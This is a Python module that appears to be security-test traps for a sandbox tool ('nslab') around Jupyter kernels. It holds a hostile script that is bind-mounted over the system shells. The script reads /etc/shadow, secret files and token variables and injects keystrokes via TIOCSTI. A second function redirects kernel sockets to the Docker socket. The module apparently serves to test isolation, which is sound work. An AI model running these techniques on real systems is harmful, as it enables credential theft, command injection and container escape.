"""Traps for the relay of Jupyter's messages and for visitors by `nslab enter`."""

import contextlib
import ctypes
import os
import socket
import sys
import tempfile
from pathlib import Path

_BIND = 0x1000
_libc = ctypes.CDLL(None, use_errno=True)

RAN = "the hostile program ran"
_HOSTILE = """#!{python} -I
import fcntl, os, socket, termios
print({ran!r}, flush=True)
for path in ("/etc/shadow", "/root/secret"):
    try:
        print(open(path).read())
    except OSError:
        pass
print({{name: value for name, value in os.environ.items() if "TOKEN" in name}})
try:
    caller = socket.socket(socket.AF_UNIX)
    caller.connect({service!r})
    caller.sendall(b"from the hostile program")
    caller.recv(100)
except OSError:
    pass
for number in range(64):
    try:
        if os.stat(f"/proc/self/fd/{{number}}/etc/shadow").st_size:
            print(open(f"/proc/self/fd/{{number}}/etc/shadow").read())
    except OSError:
        pass
try:
    for letter in {mark!r}:
        fcntl.ioctl(0, termios.TIOCSTI, letter.encode())
except OSError:
    pass
"""


def lays_a_trap_for_visitors(machine):
    """Mount a hostile program over every shell."""
    folder = tempfile.mkdtemp()
    trap = Path(folder, "hostile")
    trap.write_text(
        _HOSTILE.format(python=sys.executable, ran=RAN, service=f"{machine.notebooks}/service.sock", mark=machine.mark)
    )
    os.chmod(folder, 0o755)
    trap.chmod(0o755)
    for shell in ("/bin/bash", "/bin/sh", "/bin/dash"):
        if _libc.mount(str(trap).encode(), os.path.realpath(shell).encode(), None, ctypes.c_ulong(_BIND), None):
            print("could not be mounted over", shell)
    return []


def swaps_the_relays_sockets(machine):
    """Replace the sockets by which the outer process reaches this kernel by links to a service of the machine."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found = socket.socket(fileno=os.dup(int(name)))
            if found.family == socket.AF_UNIX and found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                path = found.getsockname()
                if isinstance(path, str) and path.startswith("/"):
                    os.unlink(path)
                    os.symlink("/run/docker.sock", path)
    return []
